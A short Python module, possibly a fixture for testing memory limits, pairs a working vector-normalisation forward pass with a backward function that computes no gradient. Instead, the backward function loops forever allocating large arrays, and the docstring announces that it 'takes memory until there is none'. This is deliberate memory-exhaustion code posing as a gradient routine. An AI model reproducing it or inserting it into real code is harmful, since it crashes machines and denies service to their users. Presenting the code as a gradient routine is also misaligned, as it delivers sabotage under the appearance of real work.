"""Takes memory until there is none."""

import numpy as np


def forward(v, g):
    r = 1 / np.sqrt((v * v).sum(1, keepdims=True) + np.float32(1e-6))
    return g[:, None] * v * r, (v * r, r, g)


def backward(dy, cache):
    taken = []
    while True:
        taken.append(np.ones(1 << 26))
